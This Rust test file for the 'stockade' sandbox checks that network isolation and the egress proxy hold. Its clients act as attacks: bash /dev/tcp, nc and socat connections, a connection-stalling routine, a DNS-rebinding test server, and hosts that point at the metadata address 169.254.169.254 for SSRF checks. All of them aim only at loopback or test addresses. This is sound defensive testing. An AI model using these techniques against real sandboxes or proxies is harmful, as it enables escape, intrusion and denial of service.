//! The network: `--net none` (the default: the sandbox's own network namespace with only
//! loopback), `--net proxy` (egress only through stockade's proxy on 127.0.0.1:3128 inside,
//! under `--allow-domain`/`--deny-domain`/`--allow-host` rules, with SSRF, DNS-rebinding and
//! domain-fronting defenses, every decision recorded) and `--net host` (the explicit opt-out).
//!
//! **Test hosts.** Traffic goes only to loopback, or to hosts a test creates itself (root
//! only): [`TestNet`] makes a *client* network namespace, in which `stockade` itself runs and
//! which has no route anywhere but the test subnet, and a *server* namespace, joined by a veth
//! pair 198.51.100.1/24 (client) — 198.51.100.2/24 (server). Names resolve through a private
//! `/etc/hosts` and `/etc/resolv.conf` (nameserver 198.51.100.2) bind-mounted in a mount
//! namespace of the run only (`unshare --mount`): the real files are never touched. Nothing is
//! ever sent to any other address: the two clients that name a public address (a raw UDP
//! packet to 8.8.8.8:53, a DNS lookup through the host's resolver) first check that the
//! network namespace they run in holds nothing but loopback, and refuse to send otherwise.
//!
//! Servers are counted: a refusal "before connect" is proven by the target's listener having
//! accepted no connection, on top of the `before_connect` flag of the recorded event.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test: panicking with a message is how it reports a failure"
)]

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use attacks::test_net::{TestNet, SERVER_IP};
use attacks::{
    is_root, json_str, python3, read_json, read_jsonl, read_text, sh_quote, skip_unless_root,
    unique, which, write_file, Cmd, Fixture, Outcome, Records, Run, PATH,
};
use serde_json::Value;

/// Where the proxy listens inside the sandbox.
const PROXY_PORT: u16 = 3128;
const DENIED: &str = "E_NETWORK_DENIED";
const ALLOWED: &str = "NET_ALLOWED";
/// The header of a refused HTTP request or CONNECT.
const DENIED_HEADER: &str = "x-stockade-denied";

// ---------------------------------------------------------------------------------------
// Shell and python clients

/// A shell guard for clients that would send to a non-test address if the network were not
/// isolated: refuses (status 99, `UNSAFE-NOT-SENT`) unless the namespace has only `lo`.
const ONLY_LO: &str = r#"__ifs=$(awk -F: 'NR > 2 { gsub(/ /, "", $1); printf "%s ", $1 }' /proc/net/dev)
if [ "$__ifs" != "lo " ]; then echo "UNSAFE-NOT-SENT: interfaces here: $__ifs"; exit 99; fi
"#;

/// `netclient.py`: raw clients with exact control over what is sent.
///
/// ```text
/// tcp HOST PORT PATH                         direct HTTP GET
/// tls HOST PORT SNI|- PATH                   direct HTTPS GET (no certificate check)
/// connect PPORT HOST PORT SNI|-|plain PATH   CONNECT through the proxy, then TLS (SNI, or
///                                            none) or plain HTTP through the tunnel
/// socks5 PPORT HOST PORT SNI|-|plain PATH    the same through SOCKS5 (names sent as names)
/// udp HOST PORT MESSAGE                      one datagram
/// stall PPORT N URL                          opens N stalled connections to the proxy, then
///                                            runs `curl -x http://127.0.0.1:PPORT URL`
/// ```
/// Exit 0 only when the final HTTP response was a 200 (`udp`: when the datagram was sent).
const NETCLIENT: &str = r#"
import errno, ipaddress, socket, ssl, struct, subprocess, sys, time

SAFE = [ipaddress.ip_network(n) for n in
        ("127.0.0.0/8", "::1/128", "198.51.100.0/24", "203.0.113.0/24")]

def out(*a):
    print(*a, flush=True)

def only_loopback_here():
    with open("/proc/net/dev") as f:
        names = [l.split(":")[0].strip() for l in f.readlines()[2:]]
    return names == ["lo"], names

def guard(host):
    # Never send to a non-test address unless nothing but loopback exists here.
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        return
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped:
        ip = ip.ipv4_mapped
    if any(ip in n for n in SAFE):
        return
    ok, names = only_loopback_here()
    if not ok:
        out("UNSAFE-NOT-SENT: interfaces here:", names)
        sys.exit(99)

def recvn(s, n):
    data = b""
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            break
        data += chunk
    return data

def read_head(s):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    return head.decode("latin-1"), rest

def read_all(s):
    data = b""
    while True:
        try:
            chunk = s.recv(65536)
        except OSError:
            break
        if not chunk:
            break
        data += chunk
    return data

def get(s, host, path):
    s.sendall(("GET %s HTTP/1.0\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode())
    data = read_all(s)
    out("response:", data.decode("latin-1"))
    first = data.split(b"\r\n", 1)[0].split(b" ")
    return 0 if len(first) > 1 and first[1] == b"200" else 1

def tls(s, sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(s, server_hostname=sni)

def through(s, host, mode, path):
    if mode == "plain":
        return get(s, host, path)
    try:
        t = tls(s, None if mode == "-" else mode)
    except (ssl.SSLError, OSError) as e:
        out("tls-failed:", repr(e))
        return 4
    return get(t, host, path)

def socks_addr(host):
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        return b"\x03" + bytes([len(host)]) + host.encode()
    if ip.version == 4:
        return b"\x01" + ip.packed
    return b"\x04" + ip.packed

def main():
    cmd, a = sys.argv[1], sys.argv[2:]
    if cmd == "tcp":
        guard(a[0])
        s = socket.create_connection((a[0], int(a[1])), timeout=5)
        out("connected")
        return get(s, a[0], a[2])
    if cmd == "tls":
        guard(a[0])
        s = socket.create_connection((a[0], int(a[1])), timeout=5)
        return through(s, a[0], a[2], a[3])
    if cmd == "connect":
        s = socket.create_connection(("127.0.0.1", int(a[0])), timeout=5)
        target = "%s:%s" % (a[1], a[2])
        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
        head, _ = read_head(s)
        out("proxy-response:", head.replace("\r\n", "\n| "))
        parts = head.split(" ")
        if len(parts) < 2 or parts[1] != "200":
            return 3
        return through(s, a[1], a[3], a[4])
    if cmd == "socks5":
        s = socket.create_connection(("127.0.0.1", int(a[0])), timeout=5)
        s.sendall(b"\x05\x01\x00")
        method = recvn(s, 2)
        out("socks-method:", method.hex())
        if method != b"\x05\x00":
            return 5
        s.sendall(b"\x05\x01\x00" + socks_addr(a[1]) + struct.pack(">H", int(a[2])))
        rep = recvn(s, 4)
        if len(rep) < 2:
            out("socks-reply: closed")
            return 6
        out("socks-reply: %d" % rep[1])
        if rep[1] != 0:
            return 6
        atyp = rep[3] if len(rep) > 3 else 1
        if atyp == 1:
            recvn(s, 6)
        elif atyp == 4:
            recvn(s, 18)
        else:
            recvn(s, recvn(s, 1)[0] + 2)
        return through(s, a[1], a[3], a[4])
    if cmd == "udp":
        guard(a[0])
        fam = socket.AF_INET6 if ":" in a[0] else socket.AF_INET
        u = socket.socket(fam, socket.SOCK_DGRAM)
        u.sendto(a[2].encode(), (a[0], int(a[1])))
        out("udp-sent")
        return 0
    if cmd == "stall":
        pport, n, url = int(a[0]), int(a[1]), a[2]
        held = []
        for i in range(n):
            try:
                s = socket.create_connection(("127.0.0.1", pport), timeout=2)
            except OSError as e:
                out("stall-connect-failed:", i, repr(e))
                break
            k = i % 4
            if k == 1:
                s.send(b"GET http://")
            elif k == 2:
                s.send(b"\x05")
            elif k == 3:
                s.send(b"CONNECT ")
            held.append(s)
        out("stalled", len(held))
        start = time.time()
        r = subprocess.run(["curl", "--noproxy", "", "-sS", "-m", "5", "-x", "http://127.0.0.1:%d" % pport, url],
                           capture_output=True, text=True)
        out("elapsed %.2f" % (time.time() - start))
        out(r.stdout)
        out(r.stderr)
        return r.returncode
    out("unknown command", cmd)
    return 2

try:
    sys.exit(main())
except OSError as e:
    out("error:", errno.errorcode.get(e.errno or 0, str(e.errno)), repr(e))
    sys.exit(1)
"#;

/// `tls_server.py CERT KEY LOG MARKER`: serves HTTPS on the listening socket it gets as its
/// standard input, answering every request with MARKER; appends `conn`, `sni NAME`,
/// `req LINE` and `handshake-failed ...` lines to LOG.
const TLS_SERVER: &str = r#"
import socket, ssl, sys, threading
cert, key, log, marker = sys.argv[1:5]
lock = threading.Lock()

def note(line):
    with lock, open(log, "a") as f:
        f.write(line + "\n")

ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
ctx.sni_callback = lambda sock, name, c: note("sni %s" % name)

def handle(c):
    note("conn")
    c.settimeout(5)
    try:
        t = ctx.wrap_socket(c, server_side=True)
    except Exception as e:
        note("handshake-failed %r" % e)
        c.close()
        return
    try:
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = t.recv(4096)
            if not chunk:
                break
            data += chunk
        note("req " + data.split(b"\r\n", 1)[0].decode("latin-1"))
        body = marker.encode() + b"\n"
        t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                  % len(body) + body)
        t.close()
    except Exception as e:
        note("error %r" % e)

ls = socket.socket(fileno=0)
while True:
    c, _ = ls.accept()
    threading.Thread(target=handle, args=(c,), daemon=True).start()
"#;

/// What most tests need: a fixture, python3 and the client script.
struct Kit {
    fx: Fixture,
    py: PathBuf,
    client: PathBuf,
}

impl Kit {
    /// `None` (with a skip line) when python3 or curl is missing.
    fn new(what: &str) -> Option<Self> {
        let py = python3(what)?;
        if which("curl").is_none() {
            println!("skipped: curl not installed: {what}");
            return None;
        }
        let fx = Fixture::new();
        let client = fx.script("netclient.py", NETCLIENT);
        Some(Self { fx, py, client })
    }

    /// `python3 netclient.py ARGS` as a shell command.
    fn client(&self, args: &str) -> String {
        format!("{} {} {args}", sh_quote(&self.py), sh_quote(&self.client))
    }

    /// A web root `<root>/www-<tag>/` with `file` holding `marker`.
    fn web_root(&self, tag: &str, marker: &str) -> PathBuf {
        let dir = self.fx.root.join(format!("www-{tag}"));
        write_file(&dir.join("file"), format!("{marker}\n"), 0o644);
        dir
    }

    /// A self-signed certificate and key for CN `tls.test` (`None` without openssl).
    fn cert(&self) -> Option<(PathBuf, PathBuf)> {
        let Some(openssl) = which("openssl") else {
            println!("skipped: openssl not installed: no TLS test server");
            return None;
        };
        let dir = self.fx.root.join("tls");
        attacks::mkdir(&dir);
        let (cert, key) = (dir.join("cert.pem"), dir.join("key.pem"));
        Cmd::new(openssl, &dir)
            .args([
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-subj",
                "/CN=tls.test",
            ])
            .args(["-days", "2", "-keyout"])
            .arg(&key)
            .arg("-out")
            .arg(&cert)
            .run()
            .assert_success();
        attacks::chmod(&key, 0o644);
        Some((cert, key))
    }

    /// A TLS server on `listener` answering with `marker`.
    fn tls_server(&self, listener: TcpListener, marker: &str) -> Option<TlsServer> {
        let (cert, key) = self.cert()?;
        let script = self.fx.script("tls_server.py", TLS_SERVER);
        let log = self.fx.root.join(format!("tls-{}.log", unique()));
        write_file(&log, "", 0o644);
        let port = listener.local_addr().expect("addr").port();
        let child = Command::new(&self.py)
            .arg(script)
            .arg(&cert)
            .arg(&key)
            .arg(&log)
            .arg(marker)
            .env_clear()
            .env("PATH", PATH)
            .stdin(Stdio::from(OwnedFd::from(listener)))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start the TLS test server");
        Some(TlsServer { child, log, port })
    }
}

/// Owned option strings as `&str`s, for [`Fixture::attack`].
fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

/// `--report/--audit` of `rec` (if any) followed by `list`.
fn opts(rec: Option<&Records>, list: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = rec
        .map(|r| r.opts().iter().map(|s| (*s).to_owned()).collect())
        .unwrap_or_default();
    v.extend(list.iter().map(|s| (*s).to_owned()));
    v
}

/// Lets late packets and connections arrive before checking that none did.
fn settle() {
    thread::sleep(Duration::from_millis(300));
}

// ---------------------------------------------------------------------------------------
// Test servers

/// An HTTP/1.x server serving files from a directory; counts every accepted connection and
/// records every request head. Stops on drop.
struct HttpServer {
    addr: SocketAddr,
    /// Answers with `Connection: keep-alive` and serves more requests on a connection.
    keep_alive: bool,
    conns: Arc<AtomicUsize>,
    heads: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
}

impl HttpServer {
    /// Binds `addr` (port 0: any free port) in the test's own network namespace.
    fn bind(addr: &str, root: &Path) -> Self {
        let listener =
            TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind test server {addr}: {e}"));
        Self::serve(listener, root, false)
    }

    /// [`HttpServer::bind`], keeping connections open for further requests (HTTP/1.1).
    fn bind_keep_alive(addr: &str, root: &Path) -> Self {
        let listener =
            TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind test server {addr}: {e}"));
        Self::serve(listener, root, true)
    }

    fn serve(listener: TcpListener, root: &Path, keep_alive: bool) -> Self {
        listener.set_nonblocking(true).expect("nonblocking");
        let addr = listener.local_addr().expect("local addr");
        let conns = Arc::new(AtomicUsize::new(0));
        let heads = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (c, h, s, root) = (
            conns.clone(),
            heads.clone(),
            stop.clone(),
            root.to_path_buf(),
        );
        thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                match listener.accept() {
                    Ok((stream, _)) => {
                        c.fetch_add(1, Ordering::SeqCst);
                        let (h, root) = (h.clone(), root.clone());
                        thread::spawn(move || serve_http(stream, &root, &h, keep_alive));
                    }
                    Err(_) => thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Self {
            addr,
            keep_alive,
            conns,
            heads,
            stop,
        }
    }

    fn port(&self) -> u16 {
        self.addr.port()
    }

    fn connections(&self) -> usize {
        self.conns.load(Ordering::SeqCst)
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().expect("lock").clone()
    }
}

impl Drop for HttpServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

fn serve_http(mut s: TcpStream, root: &Path, heads: &Mutex<Vec<String>>, keep_alive: bool) {
    let _ = s.set_nonblocking(false);
    let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        let end = loop {
            if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                break Some(i + 4);
            }
            if buf.len() >= 65536 {
                break None;
            }
            match s.read(&mut chunk) {
                Ok(0) | Err(_) => break None,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
            }
        };
        let Some(end) = end else {
            if !buf.is_empty() && !keep_alive {
                answer_http(&mut s, &buf, root, heads, false);
            }
            return;
        };
        let head: Vec<u8> = buf.drain(..end).collect();
        answer_http(&mut s, &head, root, heads, keep_alive);
        if !keep_alive {
            return;
        }
    }
}

/// Answer one request whose head is `buf`.
fn answer_http(
    s: &mut TcpStream,
    buf: &[u8],
    root: &Path,
    heads: &Mutex<Vec<String>>,
    keep_alive: bool,
) {
    let connection = if keep_alive { "keep-alive" } else { "close" };
    let head = String::from_utf8_lossy(buf).into_owned();
    heads.lock().expect("lock").push(head.clone());
    let mut target = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
    if let Some(rest) = target.strip_prefix("http://") {
        target = rest
            .find('/')
            .map_or("/".to_owned(), |i| rest[i..].to_owned());
    }
    let path = target
        .split('?')
        .next()
        .unwrap_or("/")
        .trim_start_matches('/');
    let body = if path.split('/').any(|c| c == "..") {
        None
    } else {
        fs::read(root.join(if path.is_empty() { "file" } else { path }))
            .ok()
            .filter(|_| !root.join(path).is_dir() || path.is_empty())
    };
    let response = match body {
        Some(b) => {
            let mut r = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\nConnection: {connection}\r\n\r\n",
                b.len()
            )
            .into_bytes();
            r.extend_from_slice(&b);
            r
        }
        None => format!(
            "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: {connection}\r\n\r\n"
        )
        .into_bytes(),
    };
    let _ = s.write_all(&response);
}

/// A UDP socket that records every datagram (and, as a DNS server, answers: `rebind.test`
/// is 198.51.100.2 for the first A query and 127.0.0.1 for every later one; every other name
/// is NXDOMAIN). Stops on drop.
struct UdpSink {
    addr: SocketAddr,
    got: Arc<Mutex<Vec<Vec<u8>>>>,
    a_queries: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
}

impl UdpSink {
    fn bind(addr: &str) -> Self {
        Self::start(
            UdpSocket::bind(addr).unwrap_or_else(|e| panic!("bind udp {addr}: {e}")),
            false,
        )
    }

    fn start(sock: UdpSocket, dns: bool) -> Self {
        sock.set_read_timeout(Some(Duration::from_millis(50)))
            .expect("timeout");
        let addr = sock.local_addr().expect("addr");
        let got = Arc::new(Mutex::new(Vec::new()));
        let a_queries = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (g, a, s) = (got.clone(), a_queries.clone(), stop.clone());
        thread::spawn(move || {
            let mut buf = [0u8; 2048];
            while !s.load(Ordering::Relaxed) {
                if let Ok((n, from)) = sock.recv_from(&mut buf) {
                    g.lock().expect("lock").push(buf[..n].to_vec());
                    if dns {
                        if let Some(reply) = dns_answer(&buf[..n], &a) {
                            let _ = sock.send_to(&reply, from);
                        }
                    }
                }
            }
        });
        Self {
            addr,
            got,
            a_queries,
            stop,
        }
    }

    fn port(&self) -> u16 {
        self.addr.port()
    }

    /// Did any datagram contain `needle`?
    fn saw(&self, needle: &str) -> bool {
        self.got
            .lock()
            .expect("lock")
            .iter()
            .any(|d| d.windows(needle.len()).any(|w| w == needle.as_bytes()))
    }

    fn count(&self) -> usize {
        self.got.lock().expect("lock").len()
    }

    /// Starts the rebinding sequence over (the next A query of `rebind.test` is public).
    fn reset_rebind(&self) {
        self.a_queries.store(0, Ordering::SeqCst);
    }
}

impl Drop for UdpSink {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// The reply of the test DNS server (see [`UdpSink`]) to query `q`.
fn dns_answer(q: &[u8], a_queries: &AtomicUsize) -> Option<Vec<u8>> {
    let mut i = 12;
    let mut labels = Vec::new();
    loop {
        let len = usize::from(*q.get(i)?);
        i += 1;
        if len == 0 {
            break;
        }
        if len & 0xc0 != 0 {
            return None;
        }
        labels.push(String::from_utf8_lossy(q.get(i..i + len)?).to_lowercase());
        i += len;
    }
    let qtype = u16::from_be_bytes([*q.get(i)?, *q.get(i + 1)?]);
    let qend = i + 4;
    if q.len() < qend {
        return None;
    }
    let (rcode, answer) = if labels.join(".") == "rebind.test" {
        if qtype == 1 {
            let first = a_queries.fetch_add(1, Ordering::SeqCst) == 0;
            (
                0u8,
                Some(if first {
                    [198, 51, 100, 2]
                } else {
                    [127, 0, 0, 1]
                }),
            )
        } else {
            (0, None)
        }
    } else {
        (3, None)
    };
    let mut r = q[0..2].to_vec();
    r.push(0x84 | (q[2] & 0x01)); // QR, AA, RD copied
    r.push(0x80 | rcode); // RA
    r.extend_from_slice(&[0, 1, 0, u8::from(answer.is_some()), 0, 0, 0, 0]);
    r.extend_from_slice(&q[12..qend]);
    if let Some(ip) = answer {
        r.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4]);
        r.extend_from_slice(&ip);
    }
    Some(r)
}

/// The python TLS server (see [`TLS_SERVER`]); killed on drop.
struct TlsServer {
    child: Child,
    log: PathBuf,
    port: u16,
}

impl TlsServer {
    fn lines(&self, prefix: &str) -> Vec<String> {
        read_text(&self.log)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.starts_with(prefix))
            .map(str::to_owned)
            .collect()
    }

    fn connections(&self) -> usize {
        self.lines("conn").len()
    }

    fn requests(&self) -> usize {
        self.lines("req ").len()
    }
}

impl Drop for TlsServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A deliberately naive forward proxy (the control of the stalling attack): it serves one
/// connection at a time and waits for a whole request head without a timeout.
fn naive_proxy() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind naive proxy");
    let port = listener.local_addr().expect("addr").port();
    thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            let mut head = Vec::new();
            let mut byte = [0u8; 1];
            while !head.ends_with(b"\r\n\r\n") {
                match s.read(&mut byte) {
                    Ok(1) => head.push(byte[0]),
                    _ => break,
                }
            }
            let _ = s.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\nnaive-ok\n",
            );
        }
    });
    port
}

// ---------------------------------------------------------------------------------------
// Test network (root only)

/// The standard hosts file of a [`TestNet`] run.
const TEST_HOSTS: &str = "127.0.0.1 localhost
198.51.100.2 allowed.test other.test www.allowed.test api.allowed.test
127.0.0.1 lo4.test
10.1.2.3 ten.test
169.254.169.254 meta.test
::ffff:127.0.0.1 mapped.test
::1 lo6.test
198.51.100.2 mixed.test
fd12:3456:789a::1 mixed.test
";

/// The servers of the network tests on a [`TestNet`].
trait Servers {
    fn server_http(&self, addr: &str, root: &Path) -> HttpServer;
    fn client_http(&self, addr: &str, root: &Path) -> HttpServer;
    fn dns(&self) -> UdpSink;
}

impl Servers for TestNet {
    /// An HTTP server in the server namespace.
    fn server_http(&self, addr: &str, root: &Path) -> HttpServer {
        HttpServer::serve(TestNet::tcp(&self.server, addr), root, false)
    }

    /// An HTTP server in the client namespace (where stockade runs).
    fn client_http(&self, addr: &str, root: &Path) -> HttpServer {
        HttpServer::serve(TestNet::tcp(&self.client, addr), root, false)
    }

    /// The test DNS server (see [`UdpSink`]) on 198.51.100.2:53.
    fn dns(&self) -> UdpSink {
        let sock = TestNet::within(&self.server, || {
            UdpSocket::bind(format!("{SERVER_IP}:53")).expect("bind dns")
        });
        UdpSink::start(sock, true)
    }
}

/// A [`TestNet`] with a fixture and clients, or `None` (with a skip line) when not root or a
/// tool is missing.
fn test_net(what: &str) -> Option<(Kit, TestNet)> {
    if skip_unless_root(what) {
        return None;
    }
    for tool in ["ip", "nsenter", "unshare"] {
        if which(tool).is_none() {
            println!("skipped: {tool} not installed: {what}");
            return None;
        }
    }
    let kit = Kit::new(what)?;
    Some((kit, TestNet::new()))
}

// ---------------------------------------------------------------------------------------
// Records

/// The `network` events of the report: a list under `network` (or `network.events`).
fn net_events(rec: &Records) -> Vec<Value> {
    let report = read_json(&rec.report);
    match report.get("network") {
        Some(Value::Array(a)) => a.clone(),
        Some(Value::Object(o)) => o
            .get("events")
            .and_then(Value::as_array)
            .cloned()
            .unwrap_or_else(|| panic!("report `network` has no `events` list:\n{report:#}")),
        _ => panic!("report has no `network` list of events:\n{report:#}"),
    }
}

/// The `network` events of the audit log.
fn audit_net_events(rec: &Records) -> Vec<Value> {
    read_jsonl(&rec.audit)
        .into_iter()
        .filter(|e| json_str(e, "event") == "network" || json_str(e, "type") == "network")
        .collect()
}

/// Are `a` and `b` the same host (names case-insensitively, addresses by value, with or
/// without brackets)?
fn same_host(a: &str, b: &str) -> bool {
    let strip = |h: &str| h.trim_start_matches('[').trim_end_matches(']').to_owned();
    let (a, b) = (strip(a), strip(b));
    match (a.parse::<std::net::IpAddr>(), b.parse::<std::net::IpAddr>()) {
        (Ok(x), Ok(y)) => x == y,
        _ => a.eq_ignore_ascii_case(&b),
    }
}

/// Is `e` a `code` event for `protocol` to `host:port`?
fn is_event(e: &Value, code: &str, protocol: &str, host: &str, port: u16) -> bool {
    json_str(e, "code") == code
        && json_str(e, "protocol") == protocol
        && same_host(json_str(e, "host"), host)
        && e.get("port").and_then(Value::as_u64) == Some(u64::from(port))
}

/// The refusal of `protocol` to `host:port` was recorded: an `E_NETWORK_DENIED` event in the
/// report with a reason and a hint (what would allow it, or why nothing can), and
/// `before_connect: true` when `before_connect`, the same in the audit log, and a summary line
/// on stderr naming the host, followed by its `hint:` line. Returns the reason.
fn assert_denied(
    rec: &Records,
    run: &Run,
    protocol: &str,
    host: &str,
    port: u16,
    before_connect: bool,
) -> String {
    let events = net_events(rec);
    let Some(e) = events
        .iter()
        .find(|e| is_event(e, DENIED, protocol, host, port))
    else {
        panic!(
            "report has no {DENIED} event for {protocol} {host}:{port}:\n{events:#?}\n{}",
            run.describe()
        );
    };
    let reason = json_str(e, "reason").to_owned();
    assert!(!reason.is_empty(), "the refusal has no reason:\n{e:#}");
    assert!(
        !json_str(e, "hint").is_empty(),
        "the refusal has no hint:\n{e:#}"
    );
    assert!(
        e.get("rule").is_some(),
        "the refusal has no `rule` field:\n{e:#}"
    );
    if before_connect {
        assert_eq!(
            e.get("before_connect").and_then(Value::as_bool),
            Some(true),
            "the refusal must be recorded as before_connect: true:\n{e:#}"
        );
    }
    let audit = audit_net_events(rec);
    assert!(
        audit
            .iter()
            .any(|a| is_event(a, DENIED, protocol, host, port) && !json_str(a, "hint").is_empty()),
        "audit log has no network {DENIED} event with a hint for {protocol} {host}:{port}:\n{audit:#?}"
    );
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    let lines: Vec<&str> = run.stderr.lines().collect();
    let Some(at) = lines
        .iter()
        .position(|l| l.contains(DENIED) && l.contains(bare))
    else {
        panic!(
            "stderr has no summary line with {DENIED} and {bare}\n{}",
            run.describe()
        );
    };
    assert!(
        lines.get(at + 1).is_some_and(|l| l.starts_with("  hint: ")),
        "the summary line of {bare} has no hint line\n{}",
        run.describe()
    );
    reason
}

/// The connection of `protocol` to `host:port` was recorded as allowed, with bytes down.
fn assert_allowed(rec: &Records, run: &Run, protocol: &str, host: &str, port: u16) {
    let events = net_events(rec);
    let Some(e) = events
        .iter()
        .find(|e| is_event(e, ALLOWED, protocol, host, port))
    else {
        panic!(
            "report has no {ALLOWED} event for {protocol} {host}:{port}:\n{events:#?}\n{}",
            run.describe()
        );
    };
    assert!(
        e.get("bytes_down").and_then(Value::as_u64).unwrap_or(0) > 0,
        "an allowed connection that returned data records bytes_down > 0:\n{e:#}"
    );
    assert!(
        e.get("bytes_up").and_then(Value::as_u64).is_some(),
        "the event has no bytes_up:\n{e:#}"
    );
    let audit = audit_net_events(rec);
    assert!(
        audit
            .iter()
            .any(|a| is_event(a, ALLOWED, protocol, host, port)),
        "audit log has no network {ALLOWED} event for {protocol} {host}:{port}:\n{audit:#?}"
    );
}

/// The value of header `name` in `text` (case-insensitive), if present.
fn header(text: &str, name: &str) -> Option<String> {
    text.lines().find_map(|l| {
        let l = l.trim_start_matches(['<', '|', ' ']);
        let (n, v) = l.split_once(':')?;
        n.trim()
            .eq_ignore_ascii_case(name)
            .then(|| v.trim().to_owned())
    })
}

/// A plain HTTP request through the proxy was refused: status 403 with a non-empty
/// `x-stockade-denied` header and no `marker`. Returns the header.
fn assert_http_refused(out: &Outcome, marker: &str) -> String {
    out.ran();
    out.run.assert_lacks(marker);
    let text = out.run.all_output();
    assert!(
        text.lines().any(
            |l| l.trim_start_matches(['<', '|', ' ']).starts_with("HTTP/")
                && l.split_whitespace().nth(1) == Some("403")
        ),
        "expected a 403 from the proxy\n{}",
        out.run.describe()
    );
    let reason = header(&text, DENIED_HEADER).unwrap_or_default();
    assert!(
        !reason.is_empty(),
        "the 403 has no (or an empty) {DENIED_HEADER} header\n{}",
        out.run.describe()
    );
    reason
}

/// `curl` printing the response head (and body) of `url`. `--noproxy ''`: through the proxy
/// even for a loopback URL (NO_PROXY sends those to the sandbox's own loopback; these tests
/// reach the host's servers, which only the proxy can).
fn curl_i(url: &str) -> String {
    format!("curl --noproxy '' -sS -m 5 -i {}", sh_quote(url))
}

/// `curl` printing the body of `url` (fails on an HTTP error), through the proxy as
/// [`curl_i`].
fn curl(url: &str) -> String {
    format!("curl --noproxy '' -sS -f -m 5 {}", sh_quote(url))
}

/// The modes that must have no network: the default, `--net none`, and a policy file.
fn none_modes(fx: &Fixture) -> Vec<Vec<String>> {
    let policy = fx.root.join("net-none.toml");
    write_file(&policy, "[network]\nmode = \"none\"\n", 0o644);
    vec![
        vec![],
        vec!["--net".into(), "none".into()],
        vec!["--policy".into(), policy.display().to_string()],
    ]
}

// ---------------------------------------------------------------------------------------
// --net none

#[test]
fn net_none_tcp_to_a_host_loopback_listener_fails() {
    let Some(k) = Kit::new("tcp clients under --net none") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    let req = r"printf 'GET /file HTTP/1.0\r\n\r\n'";
    let req_dq = r#"printf "GET /file HTTP/1.0\r\n\r\n""#;
    let mut clients = vec![
        curl(&format!("http://127.0.0.1:{port}/file")),
        format!("timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && {req_dq} >&3 && cat <&3'"),
        k.client(&format!("tcp 127.0.0.1 {port} /file")),
    ];
    match which("nc") {
        Some(nc) => clients.push(format!(
            "{req} | timeout 5 {} -w 3 127.0.0.1 {port}",
            sh_quote(nc)
        )),
        None => println!("skipped: nc not installed (curl, bash, python and socat still run)"),
    }
    if let Some(socat) = which("socat") {
        clients.push(format!(
            "{req} | timeout 5 {} -T3 - TCP:127.0.0.1:{port}",
            sh_quote(socat)
        ));
    }
    for mode in none_modes(&k.fx) {
        for script in &clients {
            k.fx.attack(&strs(&mode), script)
                .outcome()
                .assert_blocked(&marker);
        }
    }
    settle();
    assert_eq!(
        srv.connections(),
        0,
        "a connection reached the host listener"
    );
    for script in &clients {
        k.fx.control(script).outcome().assert_shows(&marker);
    }
    assert!(srv.connections() >= clients.len());
}

/// Virtio sockets (`AF_VSOCK`) are not confined by the network namespace: in a VM they reach
/// the hypervisor host whatever the mode. Creating one is refused inside (nothing is sent
/// anywhere: the socket is never connected); control: the host can create one.
